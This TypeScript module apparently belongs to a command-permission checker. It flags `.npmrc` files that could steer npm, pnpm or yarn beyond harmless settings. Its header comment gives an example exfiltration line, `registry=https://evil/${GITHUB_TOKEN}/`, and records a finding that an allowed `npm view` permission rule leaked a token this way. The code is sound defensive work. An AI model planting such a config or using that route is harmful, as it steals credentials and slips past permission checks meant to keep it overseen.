import { commandBase, type SimpleCommand } from './commands';
import { readCappedSync } from '../../fs/read';
import { existingLocation, kernelJoin } from '../../fs/paths';

// npm, npx, pnpm and yarn read `.npmrc` from the folder they run in and every folder above it. A
// clone's `.npmrc` sets where they connect and what they send (`registry=https://evil/${GITHUB_TOKEN}/`
// filled in from your environment, then printed and sent), which programs they run
// (`script-shell`, `node-options`, `git`) and where they write (`logs-dir`, `cache`, `prefix`):
// `npm view x` under `Bash(npm view:*)` sent the token (pass 29 F9). So a rule naming one of them
// covers a `.npmrc` of the workspace's only when each of its settings is known to shape no more
// than how packages are saved and how output looks, and no value reads the environment.

const RUNNERS: ReadonlySet<string> = new Set(['npm', 'npx', 'pnpm', 'pnpx', 'yarn', 'yarnpkg', 'corepack']);

/** `.npmrc` keys that only shape how dependencies are saved or resolved and how output looks. */
const HARMLESS: ReadonlySet<string> = new Set([
  'save-exact', 'save-prefix', 'save', 'engine-strict', 'fund', 'audit', 'package-lock', 'package-lock-only', 'legacy-peer-deps',
  'auto-install-peers', 'strict-peer-dependencies', 'shamefully-hoist', 'loglevel', 'progress', 'lockfile-version', 'optional',
  'ignore-scripts', 'prefer-offline', 'prefer-online', 'update-notifier', 'color', 'unicode', 'link-workspace-packages',
  'prefer-workspace-packages', 'node-linker', 'public-hoist-pattern', 'hoist-pattern', 'hoist', 'git-tag-version', 'tag-version-prefix',
  'sign-git-commit', 'sign-git-tag', 'workspaces-update', 'include-workspace-root', 'resolution-mode', 'dedupe-peer-dependents',
  'install-strategy', 'install-links', 'omit', 'include', 'save-dev', 'save-optional', 'save-peer', 'save-prod', 'save-bundle',
  'recursive-install', 'frozen-lockfile', 'prefer-frozen-lockfile',
]);

/** Folders searched, the workspace's own up to the root. */
const MAX_LEVELS = 64;

/** Why a package runner in `c`, run in `folder`, may be steered by a `.npmrc` there or above; undefined when none may. */
export function npmrcFinding(c: SimpleCommand, folder: string, home: string): string | undefined {
  const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
  if (!RUNNERS.has(name)) return undefined;
  const own = existingLocation(kernelJoin(home, '.npmrc'));
  let dir = folder;
  for (let level = 0; level < MAX_LEVELS; level++) {
    const file = kernelJoin(dir, '.npmrc');
    // Your own ~/.npmrc is yours.
    if (existingLocation(file) !== own) {
      const read = readCappedSync(file, { maxBytes: 64 * 1024 });
      if (read.ok) {
        if (read.capped) return `${name} reads ${file}, too large to read through`;
        const why = npmrcDanger(read.bytes.toString('utf8'));
        if (why) return `${name} reads ${file}, whose ${why}`;
      } else if (read.reason !== 'missing' && read.reason !== 'folder') return `${name} reads ${file}, which cannot be read through`;
    }
    const up = kernelJoin(dir, '..');
    if (existingLocation(up) === existingLocation(dir)) return undefined;
    dir = up;
  }
  return undefined;
}

/** Why a `.npmrc` text may steer npm beyond saving and output; undefined when it surely does not. */
export function npmrcDanger(text: string): string | undefined {
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.trim();
    if (line === '' || line.startsWith('#') || line.startsWith(';')) continue;
    const eq = line.indexOf('=');
    const key = (eq < 0 ? line : line.slice(0, eq)).trim().replace(/\[\]$/, '');
    const value = eq < 0 ? '' : line.slice(eq + 1);
    if (/\$\{/.test(line)) return `setting ${key} reads your environment (\${…})`;
    if (!HARMLESS.has(key)) return `setting ${key} may choose where npm connects, what it runs or where it writes`;
    if (/[`$]/.test(value)) return `setting ${key} holds a value that is expanded`;
  }
  return undefined;
}
